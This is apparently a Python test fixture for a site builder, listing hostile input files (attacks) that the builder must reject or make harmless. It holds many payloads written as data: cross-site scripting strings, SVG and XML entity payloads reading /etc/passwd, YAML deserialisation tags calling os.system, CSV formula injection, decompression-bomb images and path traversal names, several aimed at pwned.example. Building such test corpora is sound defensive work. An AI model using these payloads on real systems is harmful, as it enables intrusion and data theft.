"""The attacks: each is one file that is put into a board that is in order."""

# ruff: noqa: E501 - a corpus is read best with one attack a line
from __future__ import annotations

import struct
import zlib
from dataclasses import dataclass

from tests.attacks.board import CHARTER, CYCLE, GOOD, HEAD, MIB, P, chunk, picture


@dataclass(frozen=True)
class Attack:
    """A file put into the board; `rule` is the finding that must name it, "" where it is only made harmless."""

    path: str
    data: bytes
    rule: str = ""
    gone: bytes = b""


def markdown(text: str, rule: str = "", gone: bytes = b"pwned") -> Attack:
    return Attack("pages/attack.md", (HEAD + "before\n\n" + text + "\n\nafter\n").encode(), rule, gone)


def front(text: str, rule: str = "", gone: bytes = b"") -> Attack:
    """A charter whose front matter ends in `text`."""
    whole = "---\ntitle: Writing\nstarted: 2025-08-25\n" + text + "\n---\nkept-charter\n"
    return Attack(P + "charter.md", whole.encode(), rule, gone)


def table(text: str | bytes, rule: str = "", gone: bytes = b"") -> Attack:
    data = text if isinstance(text, bytes) else text.encode()
    return Attack(P + "measures/m.csv", data, rule, gone)


def image(data: bytes, rule: str = "", name: str = "a.png", gone: bytes = b"") -> Attack:
    return Attack(P + "images/" + name, data, rule, gone)


def logo(data: bytes, rule: str = "", gone: bytes = b"") -> Attack:
    return Attack("logo.svg", data, rule, gone)


RAW_HTML = {
    "script": "<script>pwned()</script>", "script-capitals": "<ScRiPt SRC=//pwned.example></sCrIpT>",
    "script-open": "<script>pwned", "script-split": "<scr<script>ipt>pwned()</scr</script>ipt>",
    "img-onerror": "<img src=x onerror=pwned()>", "svg-onload": "<svg/onload=pwned()>",
    "svg-script": "<svg><script>pwned()</script></svg>", "iframe": "<iframe src='https://pwned.example'></iframe>",
    "iframe-srcdoc": "<iframe srcdoc='<script>pwned()</script>'>", "object": "<object data='pwned.swf'></object>",
    "embed": "<embed src='pwned.swf'>", "form": "<form action='https://pwned.example'><input name=x></form>",
    "base": "<base href='https://pwned.example/'>", "meta": "<meta http-equiv=refresh content='0;url=//pwned.example'>",
    "link": "<link rel=stylesheet href='//pwned.example/a.css'>", "style": "<style>*{background:url(//pwned.example)}</style>",
    "style-attribute": "<p style='background:url(//pwned.example)'>x</p>", "body-onload": "<body onload=pwned()>",
    "details": "<details open ontoggle=pwned()>x</details>", "math": "<math><mtext><img src=x onerror=pwned()></mtext></math>",
    "video": "<video src=x onerror=pwned()></video>", "template": "<template><script>pwned()</script></template>",
    "noscript": "<noscript><p title='</noscript><img src=x onerror=pwned()>'></noscript>",
    "cdata": "<![CDATA[<script>pwned()</script>]]>", "instruction": "<?pwned x?>", "doctype": "<!DOCTYPE pwned>",
    "comment": "<!-- pwned -->", "comment-open": "<!-- pwned", "in-a-list": "- one\n- <script>pwned()</script>",
    "in-a-quote": "> <script>pwned()</script>", "in-a-heading": "## <img src=x onerror=pwned()>",
    "in-a-table": "a | b\n--|--\n<script>pwned()</script> | 2", "null-in-tag": "<scri\u200bpt>alert()</script>",
    "attribute-breakout": '<a href="x" title="a" onmouseover="pwned()">x</a>', "textarea": "<textarea autofocus onfocus=pwned()>",
    "after-code": "`x` <b onclick=pwned()>y</b>", "slash": "<img/src=x/onerror=pwned()>",
}
SHOWN_AS_TEXT = {"comment-open"}
LINKS = {
    "javascript": "[x](javascript:pwned())", "javascript-capitals": "[x](JaVaScRiPt:pwned())",
    "javascript-entity": "[x](java&#115;cript:pwned())", "javascript-tab": "[x](java\tscript:pwned())",
    "javascript-newline": "[x](java&#10;script:pwned())", "javascript-space": "[x]( javascript:pwned())",
    "javascript-control": "[x](&#1;javascript:pwned())", "javascript-percent": "[x](javascript%3Apwned())",
    "data": "[x](data:text/html;base64,PHNjcmlwdD4=)", "vbscript": "[x](vbscript:pwned)", "file": "[x](file:///etc/passwd)",
    "blob": "[x](blob:https://pwned.example/1)", "reference": "[x][1]\n\n[1]: javascript:pwned()",
    "autolink": "<javascript:pwned()>", "ftp": "[x](ftp://pwned.example)", "tel": "[x](tel:1)",
    "quote-in-address": '[x](https://a.example/"onmouseover=pwned())', "title-breakout": '[x](y "a\\" onclick=\\"pwned()")',
    "protocol-relative": "[x](//other.example/)", "wide-colon": "[x](javascript\uff1apwned())",
}
IMAGES = {
    "remote": "![x](https://pwned.example/a.png)", "remote-relative": "![x](//pwned.example/a.png)",
    "data-image": "![x](data:image/svg+xml;base64,PHN2Zz4=)", "javascript-image": "![x](javascript:pwned())",
    "up": "![x](../../../../etc/passwd)", "unlisted": "![x](pwned.png)", "reference-image": "![x][1]\n\n[1]: //pwned.example/a.png",
    "alt-breakout": '![" onerror="pwned()](a.png)', "absolute": "![x](/pwned.png)",
}
NESTED = {
    "square": "[" * 1500, "square-over-lines": "[\n" * 3000, "round": "(" * 1500, "angle": "<" * 1500, "quote": "> " * 900 + "x",
    "list": "\n".join("  " * n + "- x" for n in range(300)), "stars": "*" * 1900, "stars-apart": "*a " * 600, "underscores": "_a_" * 600,
    "backticks": "`" * 1900, "backticks-growing": " ".join("`" * n for n in range(60)), "links-open": "[a](" * 450,
    "images-open": "![" * 900, "entities": "&amp" * 450, "table-wide": "|".join("a" * 400) + "\n" + "|".join(["-"] * 400),
    "references": "\n".join(f"[{n}]: x" for n in range(3000)), "fences": "```\n" * 4000, "autolinks": "<http:" * 300,
    "escapes": "\\" * 1900, "emphasis-mixed": "**a*b" * 380, "html-open": "<a " * 600, "comments": "<!--" * 450,
    "lists-on-a-line": "+ " * 900, "numbers-on-a-line": "1. " * 600, "headings": "#\n" * 30_000, "headings-underlined": "a\n=\n" * 15_000,
    "list-in-quote": "> - " * 450, "list-four-deep": "\n".join(" " * 4 * n + "- x" for n in range(170)), "rules": "---\n" * 15_000,
    "references-many": "\n".join(f"[{n}]: x" for n in range(5800)), "tildes": "~~~\n" * 15_000, "tables": "a|b\n-|-\n" * 7_000,
    "html-closing": "</div>\n" * 8_000, "instructions": "<?\n" * 15_000, "cdata-open": "<![CDATA[\n" * 6_000, "escaped-ticks": "\\`" * 900,
    "tilde": "~" * 1900, "hashes": "#" * 1900, "rule": "-" * 1900, "numbers": "\n".join(f"{n}. x" for n in range(4000)),
}
TEMPLATES = {"braces": "{{ 7*191 }}", "percent": "{% include 'board.yml' %}", "config": "{{ config }}",
             "python": "{{ ''.__class__.__mro__ }}", "format": "{settings.name.__class__} %(x)s ${x}"}
YAML = {
    "python-object": ("tags: !!python/object/apply:os.system [pwned]", "yaml"), "python-name": ("focus: !!python/name:os.system", "yaml"),
    "local-tag": ("tags: !x [a]", "yaml"), "anchor": ("tags: &a [x]", "yaml"), "alias": ("tags: *a", "yaml"),
    "bomb": ("a: &a [x,x]\nb: &b [*a,*a]\nc: &c [*b,*b]\nd: [*c,*c]", "yaml"), "merge": ("<<: {title: pwned}", "yaml"),
    "nested-flow": ("tags: " + "[" * 400 + "]" * 400, "limit"), "nested-flow-open": ("tags: " + "[" * 1500, "limit"),
    "nested-block": ("\n".join(" " * n + "a:" for n in range(12)), "limit"), "twice": ("title: Other", ""),
    "binary": ("tags: !!binary aGk=", "yaml"), "set": ("tags: !!set {a, b}", "yaml"), "null-byte": ("aim: \"\\0\"", ""),
    "directive": ("%YAML 1.1", ""), "document": ("--- \ntitle: x", ""), "long-key": ("? " + "k" * 1500 + "\n: x", ""),
    "number-huge": ("protected_minutes: " + "9" * 400, ""), "number-infinite": ("protected_minutes: .inf", ""),
    "number-nan": ("protected_minutes: .nan", ""), "number-exponent": ("protected_minutes: 1e999999999", ""),
    "date-far": ("finish: 9999-12-31", ""), "date-zero": ("finish: 0000-00-00", ""), "date-huge": ("finish: 99999-01-01", ""),
    "control-in-text": ('aim: "a\\x1b[31mb"', ""), "script-title": ("aim: <script>pwned()</script>", ""),
    "breakout-title": ("aim: '\"><img src=x onerror=pwned()>'", ""), "closing-tag": ("aim: '</title></head><script>pwned()</script>'", ""),
    "template": ("aim: '{{ 7*191 }}'", ""), "adapted-from": ("adapted_from: javascript:pwned()", ""),
    "identifier-path": ("changes: [{id: ../../x, idea: y}]", ""), "tag-path": ("tags: ['../../../pwned', '..', '.', '/']", ""),
    "tag-script": ("tags: ['<script>']", ""), "driver-loop": ("drivers: [{id: a, name: a, drivers: [{id: a, name: a}]}]", ""),
    "drivers-deep": ("drivers: [{name: a, drivers: [{name: b, drivers: [{name: c, drivers: [{name: d}]}]}]}]", "limit"),
    "measure-path": ("measures: [{id: ../m, name: x}]", ""), "goal-huge": ("measures: [{id: m, name: x, goal: 1e308}]", ""),
    "group-negative": ("measures: [{id: m, name: x, group: -5}]", ""), "group-zero": ("measures: [{id: m, name: x, group: 0}]", ""),
    "baseline-huge": ("measures: [{id: m, name: x, baseline: 99999999999999999999}]", ""), "of-script": ("measures: [{id: m, name: x, of: '<b>'}]", ""),
    "frequency-huge": ("measures: [{id: m, name: x, frequency: 999999999999}]", ""), "unit-script": ("measures: [{id: m, name: '<svg onload=pwned()>', unit: '</text><script>'}]", ""),
    "phase-far": ("measures: [{id: m, name: x, phases: [{from: 9999-12-31, because: y}]}]", ""),
    "octal-huge": ("protected_minutes: 0o17777777777777777777777", ""), "sexagesimal": ("protected_minutes: 1:1:1:1:1:1:1:1", ""),
    "digits-1900": ("protected_minutes: " + "9" * 1900, ""), "key-list": ("? [a, b]\n: x", ""), "key-null": ("~: x", ""), "key-nan": (".nan: x", ""),
    "surrogate": ('aim: "\\ud800"', ""), "beyond-unicode": ('aim: "\\U00110000"', ""), "indent-huge": ("aim: >9999999999\n  x", ""),
    "time-impossible": ("aim: 2025-01-01T25:61:61Z", ""), "keys-many": ("\n".join(f"k{n}: x" for n in range(5000)), ""),
    "keys-nearly": ("\n".join(f"titel{n}: x" for n in range(3000)), ""), "twice-deep": ("measures: [{id: m, name: x, id: n}]", ""),
    "frequency-one": ("measures: [{id: m, name: x, frequency: 1}]\nfinish: 9999-12-31", ""),
}
ROWS = "date,numerator,denominator\n"
VALUES = "date,value,note\n"
CSVS = {
    "formula-note": (VALUES + "2025-09-01,5,=HYPERLINK(\"//pwned.example\")\n", "formula"),
    "formula-plus": (VALUES + "2025-09-01,5,+pwned|' /C calc'!A0\n", ""), "formula-minus": (VALUES + "2025-09-01,5,-pwned\n", ""),
    "formula-at": (VALUES + "2025-09-01,5,@SUM(pwned)\n", ""), "formula-value": (VALUES + "2025-09-01,=1+1,\n", "formula"),
    "formula-tab": (VALUES + "2025-09-01,5,\"\t=pwned()\"\n", ""), "formula-date": (VALUES + "=TODAY(),5,\n", ""),
    "script-note": (VALUES + "2025-09-01,5,<script>pwned()</script>\n", ""), "nan": (VALUES + "2025-09-01,nan,\n", "number"),
    "infinite": (VALUES + "2025-09-01,inf,\n", "number"), "overflow": (VALUES + "2025-09-01,1e999,\n", "number"),
    "digits": (VALUES + "2025-09-01," + "9" * 5000 + ",\n", ""), "tiny": (VALUES + "2025-09-01,1e-320,\n2025-09-08,5,\n", ""),
    "big": (VALUES + "2025-09-01,1e300,\n2025-09-08,-1e300,\n", ""), "zero-denominator": (ROWS + "2025-09-01,0,0\n", ""),
    "negative": (ROWS + "2025-09-01,-1,24\n", ""), "above": (ROWS + "2025-09-01,25,24\n", ""), "arabic-digits": (VALUES + "2025-09-01,\u0661\u0662,\n", ""),
    "superscript": (VALUES + "2025-09-01,\u00b2,\n", ""), "year-one": (VALUES + "0001-01-01,5,\n2025-09-01,6,\n", ""),
    "year-far": (VALUES + "9999-12-31,5,\n", "date"), "no-header": ("2025-09-01,5\n", ""), "empty": ("", ""), "only-header": (VALUES, ""),
    "names": ("date,forename,value\n2025-09-01,pwned,5\n", "identifier"), "pupils": ("pupil,value\nPupil 1,3\nPupil 2,4\nPupil 3,5\n", "csv"),
    "quote-open": (VALUES + '2025-09-01,5,"pwned\n', "csv"), "null": (b"date,value\n2025-09-01,5\0\n", "encoding"),
    "utf16-odd": (b"\xff\xfed\0a\0t", ""), "utf16-surrogate": (b"\xff\xfe\x00\xd8\x00\xd8", ""), "spreadsheet": (b"PK\x03\x04" + b"x" * 99, "encoding"),
    "rows-5001": (VALUES + "".join(f"2025-09-01,{n},\n" for n in range(5001)), "limit"),
    "size": (VALUES.encode() + b"2025-09-01,5,\n" * 80_000, "limit"), "columns": (VALUES.strip() + ",x" * 5000 + "\n", ""),
    "cells": (VALUES + "2025-09-01" + ",5" * 100_000 + "\n", ""), "line": (VALUES + "2025-09-01,5," + "a" * 900_000 + "\n", ""),
    "mib-quotes": (b"date,value,note\n" + b'"' * 1_000_000, ""), "mib-returns": (b"date,value\n" + b"\r" * 1_000_000, ""),
    "mib-semicolons": (b"date;value\n" + b";" * 1_000_000, ""), "mib-nulls": (b"\0" * 1_000_000, ""), "mib-ff": (b"\xff" * 1_000_000, ""),
    "columns-twice": ("date,value,value\n2025-09-01,1,2\n", ""), "bidi-header": ("date,val\u202eue\n2025-09-01,1\n", ""),
    "formula-header": ("=pwned()|x,date,value\n1,2025-09-01,1\n", ""), "utf32": ("date,value\n2025-09-01,5\n".encode("utf-32"), ""),
    "formula-after-line": (VALUES + '2025-09-01,5,"a\r\n=pwned()"\n', ""), "denormal": (VALUES + "".join(f"2025-09-{d:02},5e-324,\n" for d in range(1, 20)), ""),
    "denominator-tiny": (ROWS + "2025-09-01,1,0.0000001\n", ""), "centuries": (VALUES + "".join(f"{y}-01-01,5,\n" for y in range(1000, 2026)), ""),
    "every-day": (VALUES + "".join(f"{1000 + n // 336}-{n // 28 % 12 + 1:02}-{n % 28 + 1:02},{n % 7},\n" for n in range(4999)), ""),
    "quotes": (VALUES + '"""' * 100_000, ""), "emails": (VALUES + "2025-09-01,5,a@b.example.org\n", "identifier"),
}
PICTURES = {
    "svg": (b"<svg xmlns='http://www.w3.org/2000/svg'><script>pwned()</script></svg>", "image", "x.svg"),
    "svg-as-png": (b"<svg xmlns='http://www.w3.org/2000/svg'><script>pwned()</script></svg>", "image", "a.png"),
    "html-as-png": (b"<html><script>pwned()</script>", "image", "a.png"), "gif": (b"GIF89a" + b"\0" * 20, "image", "x.gif"),
    "empty": (b"", "image", "a.png"), "truncated": (picture()[:30], "", "a.png"), "megapixels": (picture(30_000, 30_000), "limit", "a.png"),
    "size-lies": (picture(2**31 - 1, 2**31 - 1), "limit", "a.png"), "text-chunk": (picture(1, 1, chunk(b"tEXt", b"Comment\0pwned")), "", "a.png"),
    "polyglot": (picture() + b"<script>pwned()</script>", "", "a.png"), "chunk-length": (picture()[:33] + b"\xff" * 8, "", "a.png"),
    "large": (picture() + b"\0" * (4 * MIB), "limit", "a.png"), "wrong-ending": (b"\xff\xd8\xff\xe0" + b"\0" * 40, "image", "a.png"),
    "webp-empty": (b"RIFF\x00\x00\x00\x00WEBP", "image", "a.png"), "unlisted": (picture(), "image", "b.png"),
    "bomb-text": (picture(1, 1, chunk(b"zTXt", b"Comment\0\0" + zlib.compress(b"pwned" * 400_000))), "", "a.png"),
    "exif-chunk": (picture(1, 1, chunk(b"eXIf", b"MM\0*pwned")), "", "a.png"), "private-chunk": (picture(1, 1, chunk(b"pwNd", b"pwned")), "", "a.png"),
    "profile-bomb": (picture(1, 1, chunk(b"iCCP", b"a\0\0" + zlib.compress(b"pwned" * 500_000))), "", "a.png"),
    "two-headers": (picture(1, 1, chunk(b"IHDR", struct.pack(">IIBBBBB", 60_000, 60_000, 8, 0, 0, 0, 0))), "", "a.png"),
    "chunks-many": (picture(1, 1, *[chunk(b"tEXt", b"a\0pwned")] * 50_000), "", "a.png"), "avif": (b"\0\0\0\x1cftypavifpwned", "image", "a.png"),
    "jpeg-fill": (b"\xff\xd8" + b"\xff" * 3_000_000, "", "a.png"), "pdf": (b"%PDF-1.4 pwned", "image", "a.png"),
    "webp-lies": (b"RIFF\xff\xff\xff\xffWEBPVP8X\xff\xff\xff\xff", "image", "a.png"), "webp-in-png": (b"RIFF\x12\0\0\0WEBPEXIF\x05\0\0\0pwned\0", "image", "a.png"),
    "jpeg-loop": (b"\xff\xd8" + b"\xff\xe1\x00\x02" * 100_000, "image", "a.png"), "gps": (picture(1, 1, chunk(
        b"iTXt", b"XML:com.adobe.xmp\0\0\0\0\0<x:xmpmeta><rdf:Description exif:GPSLatitude='55,57.2N'/></x:xmpmeta>")),
        "identifier", "a.png"),
}
LOGOS = {
    "script": b"<svg xmlns='http://www.w3.org/2000/svg'><script>pwned()</script></svg>",
    "handler": b"<svg xmlns='http://www.w3.org/2000/svg' onload='pwned()'/>",
    "foreign": b"<svg xmlns='http://www.w3.org/2000/svg'><foreignObject><b xmlns='x'>pwned</b></foreignObject></svg>",
    "entity": b"<!DOCTYPE svg [<!ENTITY x SYSTEM 'file:///etc/passwd'>]><svg xmlns='http://www.w3.org/2000/svg'>&x;</svg>",
    "remote": b"<svg xmlns='http://www.w3.org/2000/svg'><image href='https://pwned.example/a.png'/></svg>",
    "use": b"<svg xmlns='http://www.w3.org/2000/svg' xmlns:l='http://www.w3.org/1999/xlink'><use l:href='//pwned.example/a#b'/></svg>",
    "style": b"<svg xmlns='http://www.w3.org/2000/svg'><style>@import url(//pwned.example/a.css)</style></svg>",
    "link": b"<svg xmlns='http://www.w3.org/2000/svg'><a href='javascript:pwned()'><text>x</text></a></svg>",
    "capitals": b"<svg xmlns='http://www.w3.org/2000/svg'><SCRIPT>pwned()</SCRIPT></svg>",
    "animate": b"<svg xmlns='http://www.w3.org/2000/svg'><a><animate attributeName='href' to='javascript:pwned()'/></a></svg>",
    "utf16": "\ufeff<svg xmlns='http://www.w3.org/2000/svg' onload='pwned()'/>".encode("utf-16-le"),
}
PATHS = {
    "up": "projects/p/../../pwned.md", "up-measure": "projects/p/measures/../../../pwned.csv", "absolute": "/pwned.md",
    "backslash": "pages\\..\\pwned.md", "up-page": "pages/../pwned.md", "dots": "pages/...md", "hidden": "pages/.pwned.md",
    "null": "pages/pwned\0.md", "newline": "pages/pw\nned.md", "script": "pages/<script>pwned.md", "quote": "pages/\"onload=pwned.md",
    "reserved": "pages/index.md", "reserved-assets": "pages/assets.md", "reserved-projects": "pages/projects.md", "headers": "pages/_headers.md",
    "capitals": "pages/KEPT.md", "accents": "pages/caf\u00e9.md", "bidirectional": "pages/\u202epwned.md", "long": "pages/" + "a" * 240 + ".md",
    "device": "pages/con.md", "space": "pages/pwned .md", "percent": "pages/%2e%2e%2fpwned.md", "colon": "pages/c:pwned.md",
    "project-up": "projects/../charter.md", "project-dot": "projects/./charter.md", "project-script": "projects/<b>/charter.md",
    "project-capitals": "projects/P/charter.md", "project-space": "projects/a b/charter.md", "project-long": "projects/" + "a" * 200 + "/charter.md",
    "tool-up": "projects/p/tools/../../../pwned.yml", "deep": "projects/p/measures/a/b/c/pwned.csv", "drive": "C:/pwned.md",
    "git": ".git/config", "cache": ".mfi-cache/results-1.sqlite3", "theme": "themes/default/pages/home.html",
}
UNICODE = {
    "override": "a\u202epwned\u202c", "isolate": "a\u2067b", "mark": "a\u200fb", "tag-characters": "a\U000e0041b", "zalgo": "a" + "\u0300" * 1500,
    "surrogate-bytes": "\udcff", "bom-inside": "a\ufeffb", "null": "a\0b", "escape": "a\x1b[2Jb", "bell": "a\x07b", "line-separator": "a\u2028b",
    "next-line": "a\x85b", "private": "a\ue000b", "noncharacter": "a\uffffb", "wide": "\uff1cscript\uff1epwned\uff1c/script\uff1e",
    "ligature": "\ufdfa" * 600, "joiners": "\u200d" * 1900, "astral": "\U0001f9d2\U0001f3fd" * 400,
}
REFUSED_UNICODE = {"override": "bidirectional", "isolate": "bidirectional", "mark": "bidirectional", "null": "encoding",
                   "escape": "encoding", "bell": "encoding", "noncharacter": "encoding", "surrogate-bytes": ""}
OTHERS = {
    "page-size": Attack("pages/attack.md", HEAD.encode() + b"pwned line\n" * 6_200, "", b""),
    "page-line": Attack("pages/attack.md", HEAD.encode() + b"pwned " * 400, "limit", b"pwned"),
    "page-bytes": Attack("pages/attack.md", bytes(range(256)) * 100, "encoding"),
    "page-without-head": Attack("pages/attack.md", b"just text", "front-matter"),
    "board-key": Attack("board.yml", GOOD["board.yml"] + b"executor: tcp://pwned.example\n", "key"),
    "board-address": Attack("board.yml", b"name: x\nas_of: 2026-06-26\nurl: javascript:pwned()\n", "address", b"pwned"),
    "board-address-break": Attack("board.yml", b"name: x\nas_of: 2026-06-26\nurl: 'https://a.example/\"><script>pwned()'\n", "", b""),
    "board-theme": Attack("board.yml", b"name: x\nas_of: 2026-06-26\ntheme: ../../pwned\n", "name", b"pwned"),
    "board-logo": Attack("board.yml", b"name: x\nas_of: 2026-06-26\nlogo: ../../etc/passwd\n", "reference", b"passwd"),
    "board-name": Attack("board.yml", b"name: '</title><script>pwned()</script>'\nas_of: 2026-06-26\n", "", b""),
    "board-contact": Attack("board.yml", b"name: x\nas_of: 2026-06-26\ncontact: 'javascript:pwned()'\n", "", b""),
    "board-terms": Attack("board.yml", b"name: x\nas_of: 2026-06-26\ncalendar: {terms: [0001-01-01 to 9999-12-31]}\n", "", b""),
    "board-group": Attack("board.yml", b"name: x\nas_of: 2026-06-26\nprivacy: {smallest_group: 1}\n", "", b""),
    "schools-feed": Attack("shared/schools.yml", b"schools: [{name: x, feed: ../../../../etc/passwd}]\n", "", b"root:"),
    "schools-group": Attack("shared/schools.yml", b"schools:\n  -|name: Third Primary\n", ""),
    "board-programme": Attack("board.yml", GOOD["board.yml"] + b"programme:\n  ys: 7\ncalendar: terms\n", "required"),
    "board-programme-twice": Attack("board.yml", GOOD["board.yml"] + b"programme: {a: 1, b: 2}\nx: {y: 1}\n", "key"),
    "charter-group": front("measures:\n  -|id: m\n   name: x\nteam: {lead: yes, x: 1}\naim_changed: {because: x, y: 1}"),
    "schools-file": Attack("shared/schools.yml", b"schools: [{name: x, feed: 'file:///etc/passwd'}]\n", "", b"root:"),
    "screen-seconds": Attack("screens/attack.yml", b"title: x\nseconds: 0\n", ""),
    "screen-hours": Attack("screens/attack.yml", b"hours: '<script>pwned()</script>'\n", "", b"<script>pwned"),
    "screen-theme": Attack("screens/attack.yml", b"theme: ../../pwned\n", "", b"pwned"),
    "cycle-script": Attack(P + "pdsa/01.md", CYCLE.replace("kept", "<script>pwned()</script>").encode(), "", b"pwned"),
    "contacts-bomb": Attack(P + "contacts.yml", b"- &a x\n- *a\n", "yaml"),
    "consent-path": Attack(P + "images.yml", b"- {file: ../../../etc/passwd, people: none}\n", "", b"root:"),
    "tool-python": Attack(P + "tools/t.yml", b"tool: !!python/object:os.system x\n", "yaml"),
    "tool-fishbone": Attack(P + "tools/t.yml", b"tool: fishbone\neffect: '</text><script>pwned()</script>'\n"
                            b"causes: {'<b>': ['<svg onload=pwned()>']}\n", "", b""),
    "tool-map-loop": Attack(P + "tools/t.yml", b"tool: process-map\nsteps: [{step: a, next: [b]}, {step: b, next: [a]}]\n", ""),
    "tool-map-self": Attack(P + "tools/t.yml", b"tool: process-map\nsteps: [{step: a, next: [a, a, a]}]\n", ""),
    "tool-map-wide": Attack(P + "tools/t.yml", b"tool: process-map\nsteps:\n" + b"".join(
        b"  - {step: s%d, kind: decision, next: [s%d, s%d]}\n" % (n, (n * 7) % 60, (n * 11) % 60) for n in range(60)), ""),
    "tool-pareto-huge": Attack(P + "tools/t.yml", b"tool: pareto\nof: x\ncounts: {a: 1e308, b: 1e308}\n", ""),
    "tool-pareto-many": Attack(P + "tools/t.yml", b"tool: pareto\nof: x\ncounts:\n" + b"".join(
        b"  cause%d: %d\n" % (n, n) for n in range(400)), ""),
    "tool-forces-many": Attack(P + "tools/t.yml", b"tool: force-field\nchange: x\ndriving:\n" + b"".join(
        b"  - {force: f%d, strength: 5}\n" % n for n in range(400)), ""),
    "tool-fishbone-many": Attack(P + "tools/t.yml", b"tool: fishbone\neffect: x\ncauses:\n" + b"".join(
        b"  branch%d: [a, b, c, d, e, f]\n" % n for n in range(150)), ""),
    "drivers-many": front("drivers:\n" + "".join(f"  - {{name: d{n}, drivers: [{{name: e{n}}}, {{name: f{n}}}]}}\n" for n in range(250))),
    "changes-many": front("changes:\n" + "".join(f"  - {{id: c{n}, idea: An idea}}\n" for n in range(600))),
    "measures-many": front("measures:\n" + "".join(f"  - {{id: m{n}, name: A measure}}\n" for n in range(60))),
}

ATTACKS: dict[str, Attack] = {
    **{f"html-{n}": markdown(t, gone=b"" if n in SHOWN_AS_TEXT else b"pwned") for n, t in RAW_HTML.items()},
    **{f"link-{n}": markdown(t, gone=b"") for n, t in LINKS.items()},
    **{f"image-link-{n}": markdown(t, gone=b"") for n, t in IMAGES.items()},
    **{f"nested-{n}": markdown(t, gone=b"") for n, t in NESTED.items()},
    **{f"template-{n}": markdown(t, gone=b"1337") for n, t in TEMPLATES.items()},
    **{f"yaml-{n}": front(t, rule) for n, (t, rule) in YAML.items()},
    **{f"csv-{n}": table(t, rule) for n, (t, rule) in CSVS.items()},
    **{f"picture-{n}": image(d, rule, name, b"pwned") for n, (d, rule, name) in PICTURES.items()},
    **{f"logo-{n}": logo(d, "image", b"pwned") for n, d in LOGOS.items()},
    **{f"path-{n}": Attack(p, CHARTER.encode() if p.endswith("charter.md") else (HEAD + "x\n").encode())
       for n, p in PATHS.items()},
    **{f"unicode-{n}": Attack("pages/attack.md", (HEAD + t + "\n").encode("utf-8", "surrogateescape"),
                              REFUSED_UNICODE.get(n, "")) for n, t in UNICODE.items()},
    **OTHERS,
}
